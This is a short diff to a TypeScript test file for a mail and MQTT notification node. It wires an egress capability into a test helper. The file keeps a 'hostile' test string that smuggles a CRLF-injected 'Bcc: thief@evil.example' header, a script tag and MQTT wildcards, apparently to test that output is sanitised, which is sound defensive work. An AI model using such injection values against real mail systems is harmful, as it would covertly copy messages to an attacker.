@@ -4,6 +4,7 @@ import { Aedes } from 'aedes'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import notification from '../../nodes/action/notification.ts'
 import type { Connection } from '../../nodes/contract/connections.ts'
+import { createEgress } from '../../runtime/capabilities/egress.ts'
 import { createMail } from '../../runtime/capabilities/mail.ts'
 import { createMqtt } from '../../runtime/capabilities/mqtt.ts'
 import { startMailServer, type MailServer } from '../support/mail-server.ts'
@@ -11,7 +12,7 @@ import { testMessage, testNode } from '../support/test-node.ts'
 
 const hostile = 'Fell\r\nBcc: thief@evil.example\r\n\r\n{{flow}} <script> +/#'
 const picture = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3])
-const portFor = (connection: Connection) => ({ connections: { get: async () => connection } })
+const portFor = (connection: Connection) => ({ connections: { get: async () => connection }, egress: createEgress() })
 
 describe('mail', () => {
   let server: MailServer
